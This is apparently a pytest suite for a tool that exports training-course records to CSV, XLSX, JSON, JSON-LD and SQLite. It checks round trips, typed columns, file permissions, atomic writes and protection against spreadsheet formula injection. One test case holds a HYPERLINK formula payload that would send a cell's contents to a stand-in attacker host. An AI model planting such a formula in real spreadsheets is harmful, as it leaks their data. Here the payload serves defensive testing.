"""`offermap export`: every format round-trips, and spreadsheets never run a cell."""

from __future__ import annotations

import json
import os
import re
import sqlite3
import stat
import zipfile
from pathlib import Path
from typing import Any

import pytest

from db.session import Database
from pipeline import export
from tests.conftest import run_offermap
from tests.export.helpers import (
    AWKWARD,
    HOSTILE,
    READERS,
    SUFFIXES,
    add_candidate,
    base_fields,
    expected,
    offermap,
    read_csv,
    read_xlsx,
    xlsx_clean,
)

TEXT_COLUMNS = ("title", "description", "provider", "audience", "eu_project", "fee_text",
                "inclusivity_evidence", "duration_text")


@pytest.fixture
def hostile_db(tmp_path: Path) -> str:
    """Accepted candidates whose text columns hold formula starters and awkward text,
    with one pending and one rejected candidate that must stay out of the export."""
    url = f"sqlite:///{tmp_path / 'hostile.sqlite'}"
    database = Database(url)
    for number, text in enumerate(HOSTILE + AWKWARD):
        fields = base_fields(number) | {name: text for name in TEXT_COLUMNS}
        fields["trainers"] = [text, "Ben Example"]
        add_candidate(database, sources=1 + number % 2, **fields)
    sparse = {"title": "Sparse entry", "url": "https://example.org/sparse", "fee_amount": -5.0}
    add_candidate(database, **sparse)
    add_candidate(database, status="pending", **base_fields(90))
    add_candidate(database, status="rejected", reason="not a training", **base_fields(91))
    database.dispose()
    return url


def export_file(db_url: str, path: Path, *args: str) -> None:
    result = offermap("export", "--db", db_url, "--out", str(path), *args)
    assert result.exit_code == 0, result.output
    assert not list(path.parent.glob(f".{path.name}.*")), "temporary file left behind"


def sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode("utf-8")


def test_export_through_the_installed_command(hostile_db: str, tmp_path: Path) -> None:
    path = tmp_path / "cli.xlsx"
    result = run_offermap("export", "--db", hostile_db, "--out", str(path), "--status",
                          "accepted", "--status", "pending")
    assert result.returncode == 0, result.stderr
    assert f"Wrote {len(HOSTILE) + len(AWKWARD) + 2} entries to {path} (xlsx)" in result.stdout
    assert len(read_xlsx(path)) == len(HOSTILE) + len(AWKWARD) + 2


# --- round trips --------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "json", "jsonl", "sqlite"])
def test_every_format_round_trips(hostile_db: str, tmp_path: Path, fmt: str) -> None:
    path = tmp_path / f"trainings.{SUFFIXES[fmt]}"
    export_file(hostile_db, path, "--with-evidence", "--with-editions")

    columns = export.choose_columns(with_evidence=True, with_editions=True)
    want = expected(hostile_db, columns=columns, with_evidence=True, with_editions=True)
    if fmt == "xlsx":
        want = [{name: xlsx_clean(value) for name, value in row.items()} for row in want]
    got = READERS[fmt](path)

    assert len(want) == len(HOSTILE) + len(AWKWARD) + 1
    assert [list(row) for row in got] == [list(columns)] * len(want)
    assert got == want


def test_jsonld_round_trips_the_record_as_schema_org_course(hostile_db: str,
                                                            tmp_path: Path) -> None:
    path = tmp_path / "trainings.jsonld"
    export_file(hostile_db, path)
    got = READERS["jsonld"](path)

    want = [{name: row[name] for name in got[0]} for row in expected(hostile_db)]
    for row in want:  # the JSON-LD leaves out what is unknown rather than writing null
        row["topics"], row["verticals"] = row["topics"] or [], row["verticals"] or []
    assert got == want


def test_jsonld_uses_course_instance_offer_and_organization(hostile_db: str,
                                                           tmp_path: Path) -> None:
    path = tmp_path / "trainings.jsonld"
    export_file(hostile_db, path, "--with-editions")
    graph = json.loads(path.read_text(encoding="utf-8"))["@graph"]

    course = graph[1]  # the second candidate has two sources, so two editions
    # A university provider is schema.org's CollegeOrUniversity, an Organization.
    assert course["@type"] == "Course" and course["provider"]["@type"] == "CollegeOrUniversity"
    instances = course["hasCourseInstance"]
    assert [instance["@type"] for instance in instances] == ["CourseInstance"] * 2
    assert [instance["startDate"] for instance in instances] == ["2027-05-03", "2028-05-03"]
    assert instances[1]["offers"] == {"@type": "Offer", "price": 121.0, "priceCurrency": "EUR"}
    assert instances[0]["courseMode"] == "online"
    assert all(None not in node.values() for node in graph)


def test_json_holds_raw_values_and_is_byte_identical_when_repeated(hostile_db: str,
                                                                 tmp_path: Path) -> None:
    first, second = tmp_path / "a.json", tmp_path / "b.json"
    export_file(hostile_db, first)
    export_file(hostile_db, second)

    assert first.read_bytes() == second.read_bytes()
    titles = [row["title"] for row in json.loads(first.read_text(encoding="utf-8"))]
    assert titles[: len(HOSTILE)] == HOSTILE  # no quote prefix, nothing stripped


def test_export_works_on_postgresql_too(database_url: str, tmp_path: Path) -> None:
    database = Database(database_url)
    add_candidate(database, sources=2, **base_fields(1) | {"title": "=1+1"})
    add_candidate(database, **base_fields(2))
    database.dispose()
    for fmt in ("json", "csv"):
        path = tmp_path / f"out.{fmt}"
        export_file(database_url, path, "--with-editions")
        columns = export.choose_columns(with_editions=True)
        assert READERS[fmt](path) == expected(database_url, columns=columns,
                                              with_editions=True)


# --- spreadsheet safety (scenario 25, case B29) ---------------------------------------


def test_csv_cells_a_spreadsheet_would_run_start_with_a_quote(hostile_db: str,
                                                              tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    export_file(hostile_db, path)
    import csv

    with path.open(newline="", encoding="utf-8") as handle:
        lines = list(csv.DictReader(handle))
    for line, text in zip(lines, HOSTILE, strict=False):
        for name in TEXT_COLUMNS:
            assert line[name] == "'" + text, (name, text)
        assert line["trainers"].startswith("'")
    assert len(lines) == len(HOSTILE) + len(AWKWARD) + 1  # newlines stayed inside cells
    assert lines[len(HOSTILE)]["title"] == AWKWARD[0]
    assert lines[-1]["fee_amount"] == "-5.0"  # a number: no quote, even when negative


def test_case_b29_formula_injection(tmp_path: Path) -> None:
    """B29 (hhurz/tableExport.jquery.plugin#230): text cells get a quote in CSV and
    are string cells in XLSX; numbers stay numbers; JSON keeps raw values."""
    url = f"sqlite:///{tmp_path / 'b29.sqlite'}"
    case = {"title": "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Register now\")",
            "provider": "+44 20 7946 0000", "description": "@SUM(1+1)",
            "audience": "\t=1+1", "fee_amount": 120.0, "duration_hours": 5.0,
            "url": "https://example.org/b29"}
    add_candidate(Database(url), **case)
    text_fields = ("title", "provider", "description", "audience")

    csv_path, xlsx_path, json_path = (tmp_path / f"b29.{fmt}" for fmt in ("csv", "xlsx", "json"))
    for path in (csv_path, xlsx_path, json_path):
        export_file(url, path)

    import csv

    with csv_path.open(newline="", encoding="utf-8") as handle:
        row = next(csv.DictReader(handle))
    assert all(row[name] == "'" + case[name] for name in text_fields)
    assert (row["fee_amount"], row["duration_hours"]) == ("120.0", "5.0")

    from openpyxl import load_workbook

    sheet = load_workbook(xlsx_path).active
    header = [cell.value for cell in sheet[1]]
    cells = {name: sheet.cell(row=2, column=header.index(name) + 1) for name in case}
    assert all((cells[name].data_type, cells[name].value) == ("s", case[name])
               for name in text_fields)
    assert (cells["fee_amount"].data_type, cells["fee_amount"].value) == ("n", 120.0)
    assert "<f>" not in sheet_xml(xlsx_path)

    record = json.loads(json_path.read_text(encoding="utf-8"))[0]
    assert {name: record[name] for name in case} == case


def test_xlsx_never_writes_a_formula_and_survives_control_characters(hostile_db: str,
                                                                     tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    export_file(hostile_db, path)

    xml = sheet_xml(path)
    assert len(re.findall(r"<f[ >]", xml)) == 0
    assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", xml)
    titles = [row["title"] for row in read_xlsx(path)]
    assert titles[: len(HOSTILE)] == [export.xlsx_text(text) for text in HOSTILE]
    assert titles[6] == "=1+1"  # the NUL was dropped, the text kept, as a string


def test_xlsx_has_typed_columns_a_frozen_bold_header_and_filters(hostile_db: str,
                                                                 tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    export_file(hostile_db, path)
    from openpyxl import load_workbook

    sheet = load_workbook(path).active
    header = [cell.value for cell in sheet[1]]
    assert tuple(header) == export.COLUMNS
    assert all(cell.font.bold for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:{sheet.cell(1, len(header)).column_letter}" \
                                    f"{sheet.max_row}"
    row = {name: sheet.cell(row=2, column=index + 1) for index, name in enumerate(header)}
    assert row["id"].data_type == "n" and row["fee_amount"].data_type == "n"
    assert row["is_free"].data_type == "b"
    assert row["start_date"].is_date and row["start_date"].number_format == "yyyy-mm-dd"


def test_long_text_is_cut_to_what_an_xlsx_cell_holds(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'long.sqlite'}"
    add_candidate(Database(url), **base_fields(1) | {"description": "x" * 40_000})
    path = tmp_path / "long.xlsx"
    export_file(url, path)
    assert len(read_xlsx(path)[0]["description"]) == export.XLSX_MAX_CELL


# --- options ------------------------------------------------------------------------


def test_status_is_repeatable_and_accepted_by_default(hostile_db: str, tmp_path: Path) -> None:
    default, several = tmp_path / "default.json", tmp_path / "several.json"
    export_file(hostile_db, default)
    export_file(hostile_db, several, "--status", "pending", "--status", "rejected")

    assert {row["status"] for row in READERS["json"](default)} == {"accepted"}
    assert [row["status"] for row in READERS["json"](several)] == ["pending", "rejected"]


def test_fields_choose_and_order_the_columns(hostile_db: str, tmp_path: Path) -> None:
    path = tmp_path / "few.csv"
    export_file(hostile_db, path, "--fields", "url,title", "--fields", "fee_amount")
    assert list(read_csv(path)[0]) == ["url", "title", "fee_amount"]

    wrong = offermap("export", "--db", hostile_db, "--out", str(path), "--fields", "nope")
    assert wrong.exit_code == 2 and "unknown field(s): nope" in wrong.stderr


def test_evidence_comes_from_the_primary_source(hostile_db: str, tmp_path: Path) -> None:
    path = tmp_path / "evidence.jsonl"
    export_file(hostile_db, path, "--with-evidence", "--fields", "title")
    row = READERS["jsonl"](path)[0]
    assert list(row) == ["title", "evidence"]
    page = row["evidence"]["title"].pop("page")  # where the primary source was read
    assert page.startswith("https://")
    assert row["evidence"] == {"title": {"value": HOSTILE[0], "extractor": "jsonld",
                                         "source": "$[0].name", "confidence": 0.9}}


def test_editions_are_one_per_source_until_editions_are_modelled(hostile_db: str,
                                                                tmp_path: Path) -> None:
    path = tmp_path / "editions.json"
    export_file(hostile_db, path, "--with-editions", "--fields", "id")
    editions = READERS["json"](path)[1]["editions"]
    assert [(edition["origin"], edition["start_date"], edition["fee_amount"])
            for edition in editions] == [("search", "2027-05-03", 120.0),
                                         ("Example provider", "2028-05-03", 121.0)]
    assert set(editions[0]) == {"url", "origin", *export.EDITION_FIELDS}


def test_csv_bom_and_format_from_the_file_name(hostile_db: str, tmp_path: Path) -> None:
    path = tmp_path / "excel.csv"
    export_file(hostile_db, path, "--bom")
    assert path.read_bytes().startswith(b"\xef\xbb\xbfid,title,")
    sqlite_path = tmp_path / "guess.db"
    export_file(hostile_db, sqlite_path)
    assert sqlite_path.read_bytes().startswith(b"SQLite format 3\x00")


def test_sqlite_export_is_a_typed_standalone_table(hostile_db: str, tmp_path: Path) -> None:
    path = tmp_path / "out.sqlite"
    export_file(hostile_db, path)
    connection = sqlite3.connect(path)
    try:
        types = {row[1]: (row[2], row[5]) for row in
                 connection.execute("PRAGMA table_info(trainings)")}
        tables = [row[0] for row in connection.execute(
            "SELECT name FROM sqlite_master WHERE type = 'table'")]
        topics = connection.execute("SELECT topics FROM trainings LIMIT 1").fetchone()[0]
    finally:
        connection.close()
    assert tables == ["trainings"]
    assert types["id"] == ("INTEGER", 1) and types["fee_amount"] == ("REAL", 0)
    assert types["is_free"][0] == "INTEGER" and types["start_date"][0] == "TEXT"
    assert json.loads(topics) == ["co_creation", "participation"]


def test_export_gets_ordinary_file_permissions(hostile_db: str, tmp_path: Path) -> None:
    path = tmp_path / "perm.csv"
    old = os.umask(0o022)
    try:
        export_file(hostile_db, path)
    finally:
        os.umask(old)
    assert stat.S_IMODE(path.stat().st_mode) == 0o644


# --- atomic writes ------------------------------------------------------------------


@pytest.mark.parametrize("fmt", export.FORMATS)
def test_a_failed_export_keeps_the_previous_file(tmp_path: Path, fmt: str) -> None:
    path = tmp_path / f"keep.{fmt}"
    path.write_bytes(b"previous complete export")

    def records() -> Any:
        yield {name: None for name in export.COLUMNS} | {"title": "one", "url": "u", "id": 1}
        raise RuntimeError("database went away")

    with pytest.raises(RuntimeError):
        export.write(fmt, path, records())
    assert path.read_bytes() == b"previous complete export"
    assert sorted(tmp_path.iterdir()) == [path]
